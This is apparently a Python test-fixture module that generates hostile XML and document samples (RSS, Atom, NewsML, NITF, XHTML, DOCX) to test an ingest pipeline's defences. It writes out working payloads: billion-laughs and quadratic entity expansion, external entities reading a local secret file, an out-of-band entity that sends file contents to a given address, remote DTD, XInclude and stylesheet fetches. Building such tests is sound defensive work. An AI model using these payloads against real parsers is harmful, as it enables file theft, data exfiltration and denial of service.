"""XML whose entities grow, or reach out for files and addresses."""

from collections.abc import Iterator

from tests.hostile.articles import an_article
from tests.hostile.bad import Bad
from tests.hostile.packing import atom, newsml, nitf, page, rss
from tests.hostile.papers import zipped


def entities(secret: str, address: str) -> Iterator[Bad]:
    """Yield XML of every format with each attack; `secret`: a path, `address`: a URL."""
    attacks = {
        "laughs": _laughs(9),
        "quadratic": '<!DOCTYPE r [<!ENTITY a "%s">]>' % ("gate" * 20_000),
        "file": f'<!DOCTYPE r [<!ENTITY a SYSTEM "file://{secret}">]>',
        "path": f'<!DOCTYPE r [<!ENTITY a SYSTEM "{secret}">]>',
        "network": f'<!DOCTYPE r [<!ENTITY a SYSTEM "{address}entity">]>',
        "dtd": f'<!DOCTYPE r SYSTEM "{address}gate.dtd">',
        "public": f'<!DOCTYPE r PUBLIC "-//GATE//DTD" "{address}gate.dtd">',
        "parameter": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{address}p"> %p;]>',
        "out": f'<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "'
        f"<!ENTITY a SYSTEM '{address}%f;'>\">%e;]>",
        "loop": '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        "undeclared": "",
        "long-doctype": "<!DOCTYPE r [" + "<!ELEMENT a (b)>" * 60_000 + "]>",
        "attributes": f'<!DOCTYPE r [<!ATTLIST p c CDATA "{"gate" * 900}">]>',
    }
    formats = {"rss": rss, "atom": atom, "newsml.xml": newsml, "nitf.xml": nitf}
    for number, (name, doctype) in enumerate(attacks.items()):
        for suffix, pack in formats.items():
            whole = pack(an_article(95_000 + number)).decode()
            head, mark, rest = whole.partition("?>\n")
            used = _used(rest, 3_000 if name == "quadratic" else 1)
            xml = f"{head}{mark}{doctype}\n{used}"
            yield Bad("entities", f"{name}.{suffix}", xml.encode())
        html = page(an_article(96_000 + number)).decode()
        _, _, rest = html.partition("\n")
        yield Bad("entities", f"{name}.xhtml", f"{doctype}\n{_used(rest, 1)}".encode())
    yield from _including(secret, address)


def _laughs(depth: int) -> str:
    """Declare entities each of which is ten of the one before."""
    rows = "".join(f'<!ENTITY a{n or ""} "{f"&a{n + 1};" * 10}">' for n in range(depth))
    return f'<!DOCTYPE r [{rows}<!ENTITY a{depth} "gate">]>'


def _used(rest: str, times: int) -> str:
    """Put the entity into a title and a text."""
    text = "&a;" * times
    return rest.replace("said on Friday.", f"said on Friday. {text}", 1)


def _including(secret: str, address: str) -> Iterator[Bad]:
    include = (
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://'
        f'{secret}" parse="text"/></r>'
    )
    yield Bad("entities", "include.xml", f'<?xml version="1.0"?>{include}'.encode())
    style = f'<?xml version="1.0"?><?xml-stylesheet href="{address}s.xsl"?>'
    yield Bad("entities", "style.rss", style.encode() + rss(an_article(97_000))[39:])
    image = (
        f'<html><body><article><h1>Gate</h1><img src="{address}i.png"><p>{"Gate. " * 60}'
    )
    yield Bad("entities", "image.html", image.encode())
    part = (
        f'<!DOCTYPE r [<!ENTITY a SYSTEM "file://{secret}">]><w:document>&a;</w:document>'
    )
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": part,
        "_rels/.rels": part,
        "word/document.xml": part,
    }
    yield Bad("entities", "entity.docx", zipped(members))
